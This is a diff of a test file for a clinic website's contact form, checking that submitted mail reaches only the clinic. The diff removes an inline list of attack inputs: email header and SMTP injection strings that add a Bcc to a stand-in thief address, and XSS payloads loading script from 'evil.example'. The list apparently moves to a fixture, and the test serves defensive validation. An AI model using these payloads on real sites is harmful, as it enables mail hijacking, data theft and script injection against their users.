@@ -1,25 +1,10 @@
 import { expect, test } from 'vitest'
+import { attacks } from '#appointments/mail/attacks.fixture.ts'
 import { startMailServer } from '#appointments/mail/transport/mail-servers.fixture.ts'
 import { serveSite, smtpSettings } from '../running/site.fixture.ts'
 import { fields, postForm, revealsInternals } from './a-form.fixture.ts'
 
 const mailTo = 'reception@clinic.example'
-const thief = 'thief@evil.example'
-const attacks = [
-  `x\r\nBcc: ${thief}`,
-  `x\nCc: ${thief}\n\nbody`,
-  `x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<${thief}>\r\nDATA\r\n`,
-  `${thief}, "x" <thief2@evil.example>`,
-  `a@b.in,${thief}`,
-  `"a\r\nBcc: ${thief}"@b.in`,
-  `=?utf-8?Q?x=0D=0ABcc:_${thief}?=`,
-  '<script src="https://evil.example/x.js"></script>',
-  '"><img src=https://evil.example/x.png onerror=alert(1)>',
-  '<a href="https://evil.example">Click</a></td></table><style>*{display:none}</style>',
-  '\u2028Bcc: thief@evil.example\u0085x',
-  '{{7*7}} ${process.env.PATH} %0d%0aBcc:x',
-]
-
 test('whatever is typed into whichever field, mails go to the clinic only, and hold no tag or header of the visitor', async () => {
   const mails = await startMailServer()
   const site = await serveSite(smtpSettings(mails.url))
